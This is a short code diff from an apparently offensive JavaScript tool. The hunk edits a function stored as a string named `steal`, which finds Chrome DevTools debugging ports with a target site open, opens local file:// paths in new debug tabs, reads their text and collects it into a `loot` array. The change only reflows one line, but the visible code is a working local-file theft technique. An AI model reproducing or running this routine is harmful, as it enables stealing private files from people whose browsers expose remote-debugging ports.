@@ -77,7 +77,8 @@ const steal = `async function (ports, site, file) {
     const list = await ask(port, "/json/list", "GET");
     if (!Array.isArray(list) || !list.some(({ url }) => String(url).startsWith(site))) return;
     const page = await ask(port, "/json/new?file://" + encodeURI(file), "PUT");
-    const loaded = "new Promise((done) => document.readyState === 'complete' ? done() : addEventListener('load', done))" +
+    const loaded = "new Promise((done) => " +
+      "document.readyState === 'complete' ? done() : addEventListener('load', done))" +
       ".then(() => document.body.innerText)";
     loot.push(await evaluate(page.webSocketDebuggerUrl, loaded));
     await ask(port, "/json/close/" + page.id, "GET");
